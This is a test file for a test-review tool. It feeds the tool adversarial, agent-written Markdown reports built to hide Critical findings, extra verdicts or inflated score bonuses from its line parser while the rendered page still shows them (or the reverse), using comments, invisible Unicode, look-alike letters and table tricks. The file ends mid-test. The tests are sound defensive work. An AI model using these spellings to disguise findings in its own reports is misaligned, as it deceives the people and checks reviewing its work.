// Adversarial cases 90-99 (issue 12) through the bundle: dist/cli.js run as a user runs it, with a
// custom agent that writes a chosen report (test/fixtures/test-review/report-agent.sh). A report
// shaped to pass when it should not, a change that hides a test, a configuration or skill the pull
// request controls: each fails closed, or is read for what it is.
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseReport } from '../../src/test-review/report.js';
import { grade } from '../../src/test-review/score.js';
import { loadSkill } from '../../src/test-review/skill.js';
import { TEST_REVIEW_EXIT } from '../../src/test-review/exit-codes.js';
import { ProofgateError } from '../../src/text/errors.js';
import { commitAll, git, headSha, twoCommits } from '../support/repo.js';
import { BUNDLE_NODE, cli, cliAsync, cliCase, DIST_CLI, runActionAsync } from '../support/run.js';
import { useGitHubServer } from '../support/github-server.js';
import { linksAndImages, renderGfm } from '../support/gfm.js';
import { ownReport, PEER_SKILL, REPORT_AGENT, REPORT_AGENT_CMD, reportAgentArgs, repoWith, runProcess } from '../test-review/support.js';
import { childrenCpuMs, cpuMsSince } from '../support/cpu.js';
import { QUOTED } from './support.js';
import { trailingRuns } from '../../scripts/regex-runs.mjs';

/** The packaged skill's criteria registry, read as test-review reads it. */
const PACKAGED_REGISTRY = (await loadSkill()).registry;

/** The source lint's verdict on each pattern of a hazard's table: `refused` flagged, `passed` not. */
function lintCases(hazard: string, refused: [string, string][], passed: [string, string][]): void {
  test.each(refused)(`${hazard} refuses /%s/%s`, (pattern, flags) => expect(trailingRuns(pattern, flags)).not.toEqual([]));
  test.each(passed)(`${hazard} passes /%s/%s`, (pattern, flags) => expect(trailingRuns(pattern, flags)).toEqual([]));
}

const github = useGitHubServer();
const SPEC = "import { test, expect } from 'vitest';\n\ntest('adds', () => {\n  expect(1 + 2).toBe(3);\n});\n";
const HIGH = { severity: 'High', row: 'H1', path: 'tests/a.spec.ts', line: 4, title: 'Sleeps instead of waiting' } as const;

let n = 0;
async function review(dir: string, report: string | Buffer, ...extra: string[]) {
  const file = join(dir, '..', `${dir.split('/').pop()}-r${++n}.md`);
  writeFileSync(file, report);
  rmSync(join(dir, 'v.json'), { force: true });
  const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', ...reportAgentArgs(file), '--json', 'v.json', ...extra]);
  return { ...r, verdict: () => JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown> };
}
const clean = ownReport(['tests/a.spec.ts']);

/** The review set and context of a run with no agent over `base` then `change`. */
async function scopeOf(base: Record<string, string>, change: Record<string, string>) {
  const dir = twoCommits(base, change);
  const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
  expect(r.code, r.stdout + r.stderr).toBe(0);
  return JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as { files: string[]; contextFiles: string[] };
}
/** The report is refused (exit 3), for the reason given. */
async function expectRefused(dir: string, report: string | Buffer, reason: RegExp): Promise<void> {
  const r = await review(dir, report);
  expect(r.code, r.stdout + r.stderr).toBe(3);
  expect(r.stderr).toMatch(reason);
}
const high = ownReport(['tests/a.spec.ts'], [HIGH]);
const SHOULD = '## Recommendations (Should Fix)';

describe('#90 a violation placed where a reader might not look is read or refused, never lost', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const block = '### 2. Focused test\n\n**Severity**: P0 (Critical)\n**Row**: C2\n**Location**: `tests/a.spec.ts:3`\n';
  test.each([
    [
      'a second "## Critical Issues (Must Fix)"',
      `${clean.replace('## Decision', `## Critical Issues (Must Fix)\n\n${block}\n## Critical Issues (Must Fix)\n\n${block}\n## Decision`)}`,
      /appears 2 times/,
    ],
    [
      'a finding block under another heading',
      clean.replace('## Decision', `## Appendix\n\n${block}\n## Decision`),
      /outside its finding blocks/,
    ],
    [
      'a summary table row',
      `${clean}\n## Appendix\n\n| Line | Severity | Issue |\n| --- | --- | --- |\n| 3 | P0 (Critical) | .only |\n`,
      /outside its finding blocks/,
    ],
    [
      'a severity before the first block',
      high.replace(`${SHOULD}\n`, `${SHOULD}\n\n**Severity**: P0 (Critical)\n**Row**: C2\n`),
      /outside a "### " finding block/,
    ],
  ])('#90 %s → exit 3', async (_name, report, reason) => {
    const r = await review(dir, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(reason);
  });

  // Each shows the block on the rendered page (cmark-gfm): the parser must read what a reader reads.
  // What GitHub shows and what a line reader reads part ways: refused, whatever the page then shows.
  const hidden = (s: string) => clean.replace('## Decision', `${s}\n\n## Decision`);
  const sev = (s: string) => hidden(`${SHOULD}\n\n### 1. Focused test (row C1)\n\n${s}\n**Location**: \`tests/a.spec.ts:3\`\n`);
  test.each([
    ['a fence a list item ends', hidden('- tests/a.spec.ts\n\n  ```\n\n## Critical Issues (Must Fix)\n\n' + block), /indents a code fence/],
    ['a fence line inside an HTML block', hidden('<div align="left">\n```\n</div>\n\n' + block), /holds HTML/],
    ['an <h2> heading', hidden('<h2>Critical Issues (Must Fix)</h2>\n\n' + block), /holds HTML/],
    ['a setext heading', hidden('Critical Issues (Must Fix)\n---\n\n' + block), /underlines the line above as a heading/],
    ['an indented heading', hidden(' ## Critical Issues (Must Fix)\n\n' + block), /heading indented/],
    ['a character reference in a label', hidden('**Recommendation**&#58; Block'), /character reference/],
    ['a fence that never closes', hidden('```\n' + block), /never closes/],
    [
      'an ordered-list severity',
      sev('1. **Severity**: P0 (Critical)\n2. **Row**: C1'),
      /reads as a \*\*Severity\*\* the report does not state/,
    ],
    ['a task-list severity', sev('- [ ] **Severity**: P0 (Critical)\n**Row**: C1'), /reads as a \*\*Severity\*\*/],
    ['an escaped colon', sev('**Severity**\\: P0 (Critical)\n**Row**: C1'), /reads as a \*\*Severity\*\*/],
    ['a heading severity', sev('#### Severity: P0 (Critical)\n**Row**: C1'), /reads as a \*\*Severity\*\*/],
    [
      'a table without its leading pipe',
      sev('Field | Value\n--- | ---\nSeverity | P0 (Critical)\nRow | C1'),
      /reads as a \*\*Severity\*\*|without a leading pipe/,
    ],
    ['a label in Cyrillic look-alike letters', sev('**\u0405everity**: P0 (Critical)\n**R\u043ew**: C1'), /reads as a \*\*Severity\*\*/],
  ])('#90 %s: refused (exit 3), never Approve', (_name, report, reason) => expectRefused(dir, report, reason));

  const shown = (s: string) => clean.replace('## Decision', `${SHOULD}\n\n${s}\n## Decision`);
  const undercounted = /Total Violations\*\* says 0 Critical but the report documents 1 Critical finding block/;
  test.each([
    // HTML is refused outright now: the page hides a comment's text, so the report may hold none.
    ['an HTML comment holding a fence line on each side', shown(`<!--\n\`\`\`\n-->\n\n${block}\n<!--\n\`\`\`\n-->\n`), /holds HTML/],
    ['lone CR line endings', shown(block.replace(/\n/g, '\r')), undercounted],
    ['U+2028 at the end of the labelled lines', shown(block.replace(/(Critical\)|C2)\n/g, '$1\u2028\n')), undercounted],
    [
      'zero-width spaces inside the labels',
      shown(block.replace('**Severity**', '**Sev\u200beri\u200bty**').replace('**Row**', '**R\u200bow**')),
      undercounted,
    ],
    // Not a fence (its info string holds a backtick): the block shows, and the last line opens a fence over the Decision.
    ['a backtick line that is not a fence', shown(`\`\`\`a\`b\n\n${block}\n\`\`\`\n`), /never closes|no "## Decision"|Total Violations/],
  ])('#90 a Critical block behind %s is read: exit 3, never Approve', async (_name, report, reason) => {
    expect(renderGfm(report)).toContain('P0 (Critical)');
    const r = await review(dir, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(reason);
  });

  // The line reader reads only the lines a CommonMark parser shows as text, and the two must agree
  // on every heading and table: whatever spelling makes them part, the report is refused.
  const definition = (s: string) => `[note]: /notes "\n${s}\n"`;
  test.each([
    [
      'a claim only inside a link reference definition (the page hides its title)',
      clean.replace('**Context Waivers Applied**: 0', definition('**Context Waivers Applied**: 0')),
      /line \d+ is a link reference or footnote definition/,
      /Context Waivers/,
    ],
    [
      'a heading spelled with a no-break space',
      hidden(`##\u00a0Critical Issues (Must Fix)\n\n${block}`),
      /reads as a heading to a line reader but the page shows it as text/,
      /<h2>Critical/,
    ],
    [
      'an empty heading ending the section',
      clean.replace('## Decision', `## Critical Issues (Must Fix)\n\n##\n\n${block}\n## Decision`),
      /heading on the page that a line reader does not see/,
      null,
    ],
  ])('#90 %s: refused (exit 3), never Approve', async (_name, report, reason, page) => {
    // The page (cmark-gfm) does not show what a line reader would have read.
    if (page) expect(renderGfm(report)).not.toMatch(page);
    const r = await review(dir, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(reason);
  });

  // Found by a red-team session: markdown-it and cmark-gfm part ways on definitions (a label's
  // length, a `javascript:` destination, footnotes), on nesting depth, and a line reader that drops
  // invisible characters saw fences and indentation the page does not have.
  const criticalBlock = '### 1. Hard wait\n\n**Severity**: P0 (Critical)\n**Location**: `tests/a.spec.ts:3`\n**Row**: C1\n';
  test.each([
    [
      'a footnote whose title holds a severity',
      hidden(`See the note.[^1]\n\n[^1]: https://x.test "\n**Severity**: P0 (Critical)\n"`),
      /footnote definition/,
    ],
    [
      'a definition with a `javascript:` destination',
      hidden(`[x]: javascript:void "\n**Severity**: P0 (Critical)\n"`),
      /footnote definition/,
    ],
    [
      'a definition whose label is 1,002 bytes in 334 characters',
      hidden(`[${'界'.repeat(334)}]: /u "\n**Severity**: P0 (Critical)\n"`),
      /footnote definition/,
    ],
    [
      "quotes nested past the parser's depth",
      hidden(`## Notes\n\n${'> '.repeat(22)}**Severity**: P0 (Critical)`),
      /not shown by the page as any block/,
    ],
    [
      'zero-width spaces before fence lines around a Critical block',
      hidden(`\u200b\`\`\`\n## Critical Issues (Must Fix)\n\n${criticalBlock}\n\u200b\`\`\``),
      /says 0 Critical but the report documents 1 Critical/,
    ],
    [
      'a zero-width space before an indented severity',
      hidden(`## Notes\n\n### 1. Hard wait\n\n\u200b    **Severity**: P0 (Critical)\n\u200b    **Row**: C1`),
      /outside its finding blocks/,
    ],
    [
      'a table row without a leading pipe',
      hidden('## Violations Summary\n\n| Finding | Severity |\n| --- | --- |\nHard wait | P0 (Critical)'),
      /ends the table for one reader and not the other/,
    ],
    [
      'a section name with escaped parentheses',
      hidden(`## Critical Issues \\(Must Fix\\)\n\n### 1. Hard wait\n\n1. **Severity**: P0 (Critical)\n2. **Row**: C1`),
      /reads as a \*\*Severity\*\* the report does not state/,
    ],
    [
      'a section name with a no-break space',
      hidden(`## Critical\u00a0Issues (Must Fix)\n\n### 1. Hard wait\n\n- [ ] **Severity**: P0 (Critical)\n**Row**: C1`),
      /reads as a \*\*Severity\*\* the report does not state/,
    ],
    [
      'a severity in an ordered list under any heading',
      hidden(`## Appendix\n\n### 1. Hard wait\n\n1. **Severity**: P0 (Critical)`),
      /reads as a \*\*Severity\*\* the report does not state/,
    ],
    ['a struck-out count', clean.replace('0 Critical,', '~~0 Critical~~ 2 Critical, 0 Critical,'), /counts Critical twice \(0 and 2\)/],
  ])('#90 %s: refused (exit 3), never Approve', (_name, report, reason) => expectRefused(dir, report, reason));

  // A second red-team round: inline text the page hides, and claims spelled so a line reader skips them.
  const decision = (extra: string) =>
    clean.replace('## Decision\n\n**Recommendation**: Approve', `## Decision\n\n**Recommendation**: Approve\n\n${extra}`);
  test.each<[string, string, RegExp]>([
    [
      'counts in a link title that runs over lines',
      clean.replace(
        '**Total Violations**: 0 Critical, 0 High, 0 Medium, 0 Low',
        '[Counts](#c "\n**Total Violations**: 0 Critical, 0 High, 0 Medium, 0 Low\n")\n\n1. **Total Violations**: 1 Critical, 0 High, 0 Medium, 0 Low',
      ),
      /holds a link title/,
    ],
    [
      'an HTML comment opened after an escaped backtick',
      clean.replace('**Context Waivers Applied**: 0', '**Context Waivers Applied**: 0\n\n\\`<!--`\n**Recommendation**: Block\n`-->`'),
      /holds (?:inline )?HTML/,
    ],
    [
      'a severity in an image',
      hidden(`${SHOULD}\n\n### 1. Focused test\n\n![**Severity**: P0 (Critical)](x.png)\n**Row**: C2`),
      /holds an image/,
    ],
    [
      'a severity after an emoji',
      hidden(`${SHOULD}\n\n### 1. Focused test\n\n\u{1F534} **Severity**: P0 (Critical)\n\u{1F4CB} **Row**: C2`),
      /reads as a \*\*Severity\*\* the report does not state/,
    ],
    [
      'a severity inside a link',
      hidden(`${SHOULD}\n\n### 1. Focused test\n\n[**Severity**: P0 (Critical)](#c2)\n[**Row**: C2](#c2)`),
      /says 0 Critical but the report documents 1 Critical/,
    ],
    ...(
      [
        ['as an ordered list item', '1. **Recommendation**: Block'],
        ['after an escaped colon', '**Recommendation**\\: Block'],
        ['as a heading', '#### Recommendation: Block'],
        ['as a table row', '| Recommendation | Block |\n| --- | --- |\n'],
        ['after a dash', '**Recommendation** — Block'],
      ] as const
    ).map(([how, line]): [string, string, RegExp] => [
      `a second verdict ${how}`,
      decision(line),
      /reads as a \*\*Recommendation\*\* the report does not state/,
    ]),
    ['a verdict in another section', hidden('## Notes\n\n**Recommendation**: Block'), /gives the verdict "Block", the report's is Approve/],
    [
      'a score in bold',
      clean.replace('**Quality Score**: 100/100', '**Quality Score**: 100/100\n\n**Quality Score**: **40**/100'),
      /two quality scores \(100, 40\)/,
    ],
    ['a struck-out score', clean.replace('**Quality Score**: 100/100', '**Quality Score**: ~~100/100~~ 40/100'), /is not N\/100/],
    [
      'a heading inside a fence that ends the ledger for a line reader only',
      clean.replace(
        'Total Bonus: +0',
        '```text\nTotal Bonus: +30\n## Adjustments (withdrawn)\n```\n\nTotal Bonus: +0 (the +30 above was withdrawn)',
      ),
      /Total Bonus line .* does not read "Total Bonus: \+N"|2 Total Bonus lines/,
    ],
  ])('#90 %s: refused (exit 3), never Approve', (_name, report, reason) => expectRefused(dir, report, reason));

  // A third round: links read as their text, tildes and other digits, claims a paragraph goes on, a second manifest, a decorated column, the frontmatter.
  test.each([
    [
      'an empty link before a severity',
      hidden(`${SHOULD}\n\n### 1. SQL built from user input\n\n[](x)**Severity**: P0 (Critical)\n[](x)**Row**: C1`),
      /says 0 Critical but the report documents 1 Critical/,
    ],
    [
      'a link inside the label',
      hidden(`${SHOULD}\n\n### 1. SQL built from user input\n\n**Sev[](x)erity**: P0 (Critical)\n**Row**: C1`),
      /says 0 Critical but the report documents 1 Critical/,
    ],
    ['a second verdict after an empty link', decision('[](x)**Recommendation**: Block'), /gives two verdicts: Approve and Block/],
    [
      'a count whose link hides another in its destination',
      clean.replace('0 Critical, 0 High', '0 Critical, [3](#high:0) High'),
      /counts High twice|Total Violations/,
    ],
    [
      'a single-tilde strikethrough in the counts',
      clean.replace('0 Critical, 0 High', '0 Critical, ~0 High~ 2 **High**'),
      /holds a tilde|counts High twice/,
    ],
    ['a count in another script', clean.replace('0 Critical, 0 High', '0 Critical, \u0662 High, 0 High'), /another script's digits/],
    [
      'a verdict a paragraph goes on',
      clean.replaceAll('**Recommendation**: Approve', '**Recommendation**: Approve\nwith Comments'),
      /goes on the claim of line/,
    ],
    ['a second "## Reviewed Files"', `${clean}\n## Reviewed Files\n\n- tests/payment.spec.ts\n`, /"## Reviewed Files" appears 2 times/],
    [
      'a Severity column spelled "Severity:"',
      hidden(`## Violations Summary\n\n| Finding | Severity: | Row |\n| --- | --- | --- |\n| SQL | P0 (Critical) | C1 |`),
      /outside its finding blocks/,
    ],
    [
      'a heading in the frontmatter',
      clean.replace(
        'workflowType: testarch-test-review\n',
        'workflowType: testarch-test-review\nnotes: |\n  x\n\n  ## Critical Issues (Must Fix)\n',
      ),
      /frontmatter line \d+ .* would render as Markdown/,
    ],
  ])('#90 %s: refused (exit 3), never Approve', (_name, report, reason) => expectRefused(dir, report, reason));

  // A fourth round: strikes over lines, a bold line that goes on a claim, links the reader cannot unwrap, a bonus spelled with two spaces.
  test.each([
    [
      'a verdict struck out over three lines',
      clean.replaceAll('**Recommendation**: Approve', '~~Draft verdict\n**Recommendation**: Approve\n**Revised**:~~ **Block**'),
      /is a claim in a paragraph with a tilde/,
    ],
    [
      'a bold line that goes on the verdict',
      clean.replaceAll('**Recommendation**: Approve', '**Recommendation**: Approve\n**with Comments**: the race below'),
      /goes on the claim of line/,
    ],
    [
      'an empty link with nested parentheses',
      hidden(`${SHOULD}\n\n### 1. Checkout race\n\n[](a((b)))**Severity**: P0 (Critical)\n[](a((b)))**Row**: C1`),
      /holds a link a line reader cannot read/,
    ],
    [
      'an empty link to a pointy destination',
      hidden(`${SHOULD}\n\n### 1. Checkout race\n\n[](<1x y>)**Severity**: P0 (Critical)\n[](<1x y>)**Row**: C1`),
      /holds a link a line reader cannot read/,
    ],
    [
      'a second bonus spelled with two spaces',
      clean.replace('Total Bonus: +0', 'Total Bonus: +0\n\nTotal  Bonus: +30'),
      /2 Total Bonus lines/,
    ],
    [
      'a bonus struck out over lines',
      clean.replace('Total Bonus: +0', '~~Draft ledger\nTotal Bonus: +30\nends here~~'),
      /Total Bonus line sits in a paragraph with a tilde/,
    ],
  ])('#90 %s: refused (exit 3), never Approve', (_name, report, reason) => expectRefused(dir, report, reason));

  // A fifth round: a severity label decorated or inside a line, a fence a no-break space keeps open,
  // the template's criteria table, a one-column table only GitHub sees.
  const appendix = (s: string) => hidden(`## Appendix\n\n${s}\n`);
  const column = (header: string) => appendix(`| Line | ${header} | Issue |\n| --- | --- | --- |\n| 3 | P0 (Critical) | .only left in |`);
  const keyValue = (label: string) =>
    appendix(`### Focused test\n\n| Field | Value |\n| --- | --- |\n| ${label} | P0 (Critical) |\n| Criterion | C2 |`);
  test.each([
    ['a column headed "Severity Level"', column('Severity Level')],
    ['a column headed "🔴 Severity"', column('\u{1F534} Severity')],
    ['a column headed "Sev"', column('Sev')],
    ['a column headed "Issue Severity"', column('Issue Severity')],
    ['a column headed "Severities" in look-alike letters', column('\u0405everities')],
    [
      'a second Severity column',
      appendix(
        '| Line | Severity (as filed) | Issue | Severity (after triage) |\n| --- | --- | --- | --- |\n| 3 | - | .only | P0 (Critical) |',
      ),
    ],
    ['a key-value row "Severity Level"', keyValue('Severity Level')],
    ['a key-value row "🔴 **Sev**"', keyValue('\u{1F534} **Sev**')],
    [
      'a key-value row "Issue severity" in a middle cell',
      appendix('| Field | Name | Value |\n| --- | --- | --- |\n| x | Issue severity | P0 (Critical) |'),
    ],
  ])('#153 %s is read: the Critical it shows is counted (exit 3), never Approve', async (_name, report) => {
    expect(renderGfm(report)).toContain('P0 (Critical)');
    await expectRefused(dir, report, /documents 1 Critical violation\(s\) outside its finding blocks/);
  });

  test('#153 a decorated Severity row in a finding block is its severity', async () => {
    const report = hidden(
      `${SHOULD}\n\n### 1. Focused test\n\n| Field | Value |\n| --- | --- |\n| Severity Level | P0 (Critical) |\n| Row | C2 |`,
    );
    await expectRefused(dir, report, /says 0 Critical but the report documents 1 Critical finding block/);
  });

  test.each([
    ['after the location, on one line', sev('**Location**: `tests/a.spec.ts:3` · **Severity**: P0 (Critical) · **Row**: C2')],
    ['in a list item', hidden('## Notes\n\n- `tests/a.spec.ts:3`: `.only` left in (**Severity**: P0 (Critical), row C2)')],
    ['in a sentence', hidden('## Notes\n\nThe focused test at line 3 has the severity Critical.')],
    ['after a dash', hidden('## Notes\n\nFocused test — severity - High')],
    ['in a heading', hidden('## Notes\n\n### 1. Focused test (Severity: P0)')],
    ['beside a P-number', hidden('## Notes\n\nP0 (Critical) is the sev of the focused test.')],
    ['spelled Severity_Level', hidden('## Notes\n\nThe focused test: Severity_Level Critical')],
  ])(
    '#154 a severity %s: refused (exit 3), never Approve',
    async (_name, report) => await expectRefused(dir, report, /gives a \*\*Severity\*\* inside a line/),
  );

  test('#154 a severity word qualifying prose, with nothing after it, is prose (the peer writes it)', async () => {
    const r = await review(
      dir,
      high.replace('## Decision', '## Notes\n\nOne high-severity note about a missing test ID is resolved.\n\n## Decision'),
    );
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', violations: { high: 1 } });
  });

  const medium16 = ownReport(['tests/a.spec.ts'])
    .replace('**Quality Score**: 100/100', '**Quality Score**: 68/100')
    .replaceAll('**Recommendation**: Approve', '**Recommendation**: Request Changes')
    .replace('0 Medium', '16 Medium');
  test.each(['\u00a0', '\u3000', '\u2003', '\u00a0 '])(
    '#155 a closing fence followed by %j is not one (CommonMark): a comment after it is HTML, the bonus in it never read',
    async (after) => {
      const report = medium16.replace(
        'Total Bonus: +0',
        `\`\`\`\nStarting Score: 100\nMedium Violations: -16 × 2 = -32\n\`\`\`${after}\n\`\`\`\n<!--\nTotal Bonus: +30\n\`\`\`\n-->\n\nNo bonus criteria were met.`,
      );
      // The page's fence runs on to the second fence line: the comment after it hides the bonus.
      expect(renderGfm(report).replace(/<!--[\s\S]*?-->/g, '')).not.toContain('+30');
      await expectRefused(dir, report, /holds HTML|in a code fence for a line reader/);
    },
  );

  const criteria = (rows: string) =>
    `## Quality Criteria Assessment\n\n| Criterion | Status | Violations | Basis | Notes |\n| --- | --- | --- | --- | --- |\n${rows}\n`;
  const focusedFail = '| Disabled or Focused Tests | ❌ FAIL | 1 | Absolute | `.only` at tests/a.spec.ts:3 |';
  test.each([
    [
      'a FAIL and no finding',
      clean.replace('## Decision', `${criteria(focusedFail)}\n## Decision`),
      /marks "Disabled or Focused Tests" FAIL .* of its rows \(C1, C2\)/,
    ],
    [
      'a FAIL and a High of another row',
      high.replace('## Decision', `${criteria(focusedFail)}\n## Decision`),
      /marks "Disabled or Focused Tests" FAIL/,
    ],
    [
      'a FAIL on a criterion the template does not name',
      clean.replace('## Decision', `${criteria('| **Focus discipline** | ✗ | 1 | Absolute | .only |')}\n## Decision`),
      /marks "Focus discipline" FAIL .* counts no Critical or High finding:/,
    ],
    [
      'a WARN and no Medium or Low',
      clean.replace('## Decision', `${criteria('| Fixture Patterns | ⚠️ WARN | 2 | Applicability | shared fixture |')}\n## Decision`),
      /marks "Fixture Patterns" WARN .* counts none/,
    ],
    [
      'a FAIL counting more than Total Violations',
      high.replace(
        '## Decision',
        `${criteria('| Hard Waits (sleep, waitForTimeout) | ❌ FAIL | 3 | Absolute | three sleeps |')}\n## Decision`,
      ),
      /with 3 violation\(s\) but \*\*Total Violations\*\* counts 1/,
    ],
  ])(
    '#156 the Quality Criteria table with %s: refused (exit 3), never Approve',
    async (_name, report, reason) => await expectRefused(dir, report, reason),
  );

  test('#156 a FAIL row the counted finding stands behind is read as it is', async () => {
    const r = await review(
      dir,
      high.replace('## Decision', `${criteria('| Hard Waits (sleep, waitForTimeout) | ❌ FAIL | 1 | Absolute | sleep |')}\n## Decision`),
    );
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', violations: { high: 1 } });
  });

  test.each([
    ['|-|', 'Starting Score 100, Medium Violations: -16 × 2 = -32, bonus none\n|-|\n| Total Bonus | +30 |'],
    ['---:', 'Starting Score 100, bonus none\n---:\n| Total Bonus | +30 |'],
    [':-', 'Starting Score 100, bonus none\n:-\n| Total Bonus | +30 |'],
    ['-|', 'Starting Score 100, bonus none\n-|\n| Total Bonus | +30 |'],
  ])('#157 a one-column table under a line of text (%s): GitHub drops the bonus, refused (exit 3)', async (_name, ledger) => {
    const report = medium16.replace('Total Bonus: +0', ledger);
    expect(renderGfm(report)).not.toContain('+30');
    await expectRefused(dir, report, /is a table's separator row on the page|reads as a table to a line reader but not on the page/);
  });

  test('#157 a one-column table in a quote (GitHub: a table, markdown-it: a paragraph): refused (exit 3)', async () => {
    const report = hidden('## Notes\n\n> Focused test left in\n> |-|\n> | Severity | P0 (Critical) |');
    expect(renderGfm(report)).toContain('<table>');
    await expectRefused(dir, report, /is a table's separator row on the page/);
  });

  // A sixth round: a character reference between backtick runs CommonMark does not pair, vertical
  // tabs and lines blank to one reader only around tables, criteria tables spelled otherwise, and a
  // finding written as prose.
  test.each([
    [
      'between backtick runs of different lengths (a finding block)',
      hidden(
        `${SHOULD}\n\n### 1. Focused test disables the suite\n\n[](#\`)**&#83;everity**: P0 (Critical)[](#\`\`)\n\n[](#\`)**&#82;ow**: C1[](#\`\`)\n\n**Location**: tests/a.spec.ts:3\n`,
      ),
      '<strong>Severity</strong>: P0 (Critical)',
    ],
    [
      'between backslash-escaped backticks (a table header)',
      appendix('| # | \\`&#83;everity\\` | Finding |\n| --- | --- | --- |\n| 1 | P0 (Critical) | `test.only` at tests/a.spec.ts:3 |'),
      '`Severity`</th>',
    ],
    [
      'in hexadecimal',
      hidden(`${SHOULD}\n\n### 1. Focused test\n\n[](#\`)**&#x53;everity**: P0 (Critical)[](#\`\`)\n**Row**: C1\n`),
      '<strong>Severity</strong>: P0 (Critical)',
    ],
    [
      'named (&colon;)',
      hidden(`${SHOULD}\n\n### 1. Focused test\n\n[](#\`)**Severity**&colon; P0 (Critical)[](#\`\`)\n**Row**: C1\n`),
      '<strong>Severity</strong>: P0 (Critical)',
    ],
    [
      'after a code span over two lines (a line alone pairs the wrong runs)',
      hidden(`## Notes\n\nThe check \`x\ny\` **&#83;everity**: P0 (Critical) at tests/a.spec.ts:3 \`z\``),
      '<strong>Severity</strong>: P0 (Critical)',
    ],
  ])('#161 a character reference %s: refused (exit 3), never Approve', async (_name, report, shown) => {
    expect(renderGfm(report)).toContain(shown);
    await expectRefused(dir, report, /holds a character reference/);
  });

  test('#161 a character reference inside a real code span is quoted code, read as it is', async () => {
    const r = await review(dir, hidden('## Notes\n\nThe helper escapes `&amp;` and ``a ` &lt; b`` as code.'));
    expect(r.code, r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ recommendation: 'Approve' });
  });

  test.each([
    ['\v', 'a Severity table'],
    ['\f', 'a Severity table'],
  ])('#162 a separator row ending in %j (a space to cmark-gfm only) under %s: refused (exit 3)', async (ws) => {
    const report = appendix(
      `| Finding | Severity\n|-|-|${ws}\n| \`test.only\` at tests/a.spec.ts:3 | P0 (Critical) |\n| \`waitForTimeout\` at tests/a.spec.ts:4 | P1 (High) |`,
    );
    expect(renderGfm(report)).toContain('<td>P0 (Critical)</td>');
    await expectRefused(dir, report, /vertical tab or form feed/);
  });

  test('#162 a one-column separator row ending in a vertical tab: the hidden bonus is refused (exit 3)', async () => {
    const report = medium16.replace(
      'Total Bonus: +0',
      'Starting Score 100, Medium Violations: -16 × 2 = -32, bonus none\n|-|\v\n| Total Bonus | +30 |',
    );
    expect(renderGfm(report)).toContain('<table>');
    await expectRefused(dir, report, /vertical tab or form feed/);
  });

  test.each([
    ['a no-break space', '\u00a0'],
    ['an ideographic space', '\u3000'],
    ['an em space', '\u2003'],
    ['a no-break space in a quote', '>\u00a0'],
  ])('#163 a line of only %s under a table (GitHub goes on with the table): refused (exit 3)', async (_name, ws) => {
    const table = `| # | Severity | Finding |\n| --- | --- | --- |\n| – | none | nothing blocking |\n${ws}\n| 1 | P0 (Critical) | \`test.only\` at tests/a.spec.ts:3 |`;
    const report = appendix(ws.startsWith('>') ? table.replace(/^(?!>)/gm, '> ') : table);
    expect(renderGfm(report)).toContain('<td>P0 (Critical)</td>');
    await expectRefused(dir, report, /holds only a Unicode space or an invisible character/);
  });

  test('#163 a line of only a no-break space in the ledger table: the hidden bonus is refused (exit 3)', async () => {
    const report = medium16.replace(
      'Total Bonus: +0',
      '| Ledger |\n| --- |\n| Starting Score: 100 |\n| Medium Violations: -16 × 2 = -32 |\n| Bonus: none |\n\u00a0\n| Total Bonus | +30 |',
    );
    expect(renderGfm(report)).toContain('<td>Total Bonus</td>');
    await expectRefused(dir, report, /holds only a Unicode space or an invisible character/);
  });

  const assessment = (table: string) => clean.replace('## Decision', `## Quality Criteria Assessment\n\n${table}\n\n## Decision`);
  test.each([
    ['in a "Result" column', '| Criterion | Result | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ❌ FAIL | 1 |'],
    ['in a "Pass/Fail" column', '| Criterion | Pass/Fail | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ❌ | 1 |'],
    [
      'in a second status column',
      '| Criterion | Status | Status after review |\n| --- | --- | --- |\n| Disabled or Focused Tests | ✅ PASS | ❌ FAIL |',
    ],
    ['spelled ✖', '| Criterion | Status | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ✖ | 1 |'],
    ['spelled ❎', '| Criterion | Status | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ❎ | 1 |'],
    ['spelled 🔴 Blocking', '| Criterion | Status | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | 🔴 Blocking | 1 |'],
    ['spelled ⛔ NOT MET', '| Criterion | Status | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ⛔ NOT MET | 1 |'],
    ['spelled in a word it does not know', '| Criterion | 🧪 Outcome |\n| --- | --- |\n| Disabled or Focused Tests | Needs rework |'],
  ])(
    '#164 a criteria table FAIL %s: refused (exit 3), never Approve',
    async (_name, table) => await expectRefused(dir, assessment(table), /marks "Disabled or Focused Tests" FAIL .* of its rows \(C1, C2\)/),
  );

  test('#164 a criteria table PASS row counting violations Total Violations does not: refused (exit 3)', async () =>
    await expectRefused(
      dir,
      assessment('| Criterion | Status | Violations |\n| --- | --- | --- |\n| Disabled or Focused Tests | ✅ PASS | 2 |'),
      /marks "Disabled or Focused Tests" with 2 violation\(s\) but \*\*Total Violations\*\* counts 0/,
    ));

  test('#164 a criteria table of passes (✅ PASS, ✅ PASS (n/a), ✓, OK, n/a) is read as it is', async () => {
    const r = await review(
      dir,
      assessment(
        '| Criterion | Status | Result | Violations |\n| --- | --- | --- | --- |\n| Disabled or Focused Tests | ✅ PASS | ✓ | 0 |\n| Data Factories | ✅ PASS (n/a) | OK | 0 |\n| Pact.js Utils Adoption | n/a | - | 0 |',
      ),
    );
    expect(r.code, r.stderr).toBe(0);
